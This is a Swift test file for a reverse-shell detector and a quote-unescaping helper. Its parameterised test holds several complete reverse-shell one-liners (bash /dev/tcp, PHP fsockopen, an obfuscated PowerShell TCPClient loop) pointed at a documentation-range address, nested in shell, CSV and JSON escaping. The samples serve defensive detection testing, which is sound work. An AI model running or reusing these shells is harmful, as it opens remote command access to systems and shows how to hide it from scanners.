import Bytes
import Testing

@testable import Detectors

@Suite struct NestedQuotesTests {
  private func undone(_ text: String) -> String? {
    text.withView { NestedQuotes.undone($0) }.map { String(decoding: $0, as: UTF8.self) }
  }

  @Test func quotesAreSingleAgain() {
    #expect(undone("sh -c 'a '\\''b'\\'' c'") == "sh -c 'a 'b' c'")
    #expect(undone("sh -c 'a '\"'\"'b'\"'\"''") == "sh -c 'a 'b''")
    #expect(undone("1,\"f(\"\"a\"\",1)\",x") == "1,\"f(\"a\",1)\",x")
    #expect(undone("'Net.Soc' + 'kets.TCP'+'Client'") == "'Net.Sockets.TCPClient'")
    #expect(undone("a,\"b\",,\"\",c") == nil)
    #expect(undone("x = \"\"; y = 'a' + b + 'c'") == nil)
    #expect(undone("s.bind((\"\",1));call([\"sh\",\"-i\"])") == nil)
    #expect(undone("") == nil)
  }

  @Test(arguments: [
    "bash -c 'H=198.51.100.9; P=4242; bash -c '\\''exec bash -i &>/dev/tcp/'\\''$H'\\''/'\\''$P'\\'' <&1'\\'''",
    "2021-12-10,web,\"php -r '$s=fsockopen(\"\"198.51.100.9\"\",4242);exec(\"\"/bin/sh -i <&3 >&3 2>&3\"\");'\",0",
    "$c = New-Object ('System.Net.Soc'+'kets.TCPCl'+'ient')('198.51.100.9',4242);$s=$c.GetStream();while(($i=$s.Read($b,0,9)) -ne 0){iex ([text.encoding]::ASCII.GetString($b,0,$i))}",
    "{\"m\": \"{\\\"cmd\\\": \\\"php -r '$s=fsockopen(\\\\\\\"198.51.100.9\\\\\\\",4242);exec(\\\\\\\"/bin/sh -i <&3 >&3\\\\\\\");'\\\"}\"}",
  ])
  func shellsAreSeenThrough(text: String) {
    let found = text.withView { ReverseShellDetector().scan($0, .command) }
    #expect(found.contains { $0.host == "198.51.100.9" && $0.port == 4242 })
  }
}
